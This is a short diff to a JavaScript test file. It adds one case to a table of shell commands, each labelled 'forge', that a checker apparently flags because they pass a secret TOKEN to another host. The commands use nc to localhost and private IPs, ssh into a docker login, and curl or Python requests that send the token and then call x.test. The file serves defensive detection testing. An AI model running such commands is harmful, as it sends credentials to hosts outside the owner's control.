@@ -105,6 +105,7 @@ describe('a token that stands in the command', () => {
     ["ssh deploy.x.test 'echo TOKEN | docker login ghcr.io -u me --password-stdin'", forge],
     ["nc localhost 8080 <<< 'TOKEN'", forge],
     ["nc 192.168.1.4 8080 <<< 'TOKEN'", forge],
+    ["nc 172.17.0.1 8080 <<< 'TOKEN'", forge],
     [`TOKEN_OF=TOKEN; curl -H "Authorization: token $TOKEN_OF" https://api.github.com/user; curl https://x.test`, forge],
     [`bash -c 'curl -H "Authorization: token TOKEN" https://api.github.com/user; curl https://x.test'`, forge],
     [`python3 -c "import requests; requests.get('https://api.github.com', headers={'Authorization': 'token TOKEN'}); requests.get('https://x.test')"`, forge],
